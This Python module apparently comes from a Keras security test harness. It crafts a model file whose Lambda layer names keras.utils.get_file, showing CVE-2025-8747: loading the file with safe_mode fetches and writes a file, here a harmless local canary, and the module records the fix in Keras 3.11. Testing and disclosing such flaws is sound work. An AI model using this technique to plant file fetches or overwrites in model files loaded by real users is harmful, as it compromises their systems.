"""A Lambda whose function config names keras.utils.get_file (CVE-2025-8747).

A Lambda layer may name its function instead of storing bytecode; safe_mode checks only bytecode. This
one names keras.utils.get_file and its node passes a file name, so while the model loads Keras fetches
"file:kc-bait.txt" (a file beside the model, in the load's working directory) and writes it as
kc-get-file.txt: a fetch and a write from a config alone. Keras 3.11 refuses loading APIs named in a
config (serialization_lib LOADING_APIS). A Keras 2 config has no node keyword arguments to pass the name.
"""
import numpy as np
import tensorflow as tf

from runner.harness import crafting

keras = tf.keras

SOURCE = "https://github.com/io-no/CVE-Reports/issues/5"
CLAIM = "A Lambda naming keras.utils.get_file in config.json downloads or overwrites files during a safe_mode=True load (fixed in Keras 3.11)."
FIX = "Upgrade to Keras >= 3.11; load only files you trust, in a sandbox (keras-compat check --sandbox)."
CANARY = True
# What a vector does depends on the Keras that loads it, not the one that wrote it: each env loads the file
# it crafted itself (the vector table), not other envs' copies.
PAIRS = "same"

x = np.linspace(-1.0, 1.0, 12, dtype="float32").reshape(3, 4)
y = x * 3.0


def build():
    inputs = keras.Input(shape=(4,))
    hidden = keras.layers.Dense(4, name="dense")(inputs)
    return keras.Model(inputs, keras.layers.Dense(4, name="out")(hidden))


def craft(fmt, path, model):
    crafting.require_zip(fmt, path, "the vector is an entry of a .keras zip's config.json")
    crafting.require_keras3("a Lambda called with a keyword argument of its node")
    fetch = crafting.lambda_calling("kc_get_file", "keras.utils", "get_file", "kc-get-file.txt",
                                    {"origin": "file:" + crafting.BAIT, "cache_dir": ".", "cache_subdir": "."})
    crafting.add_layers(path, [fetch])


# %% train

# %% serve

# %% rebuild
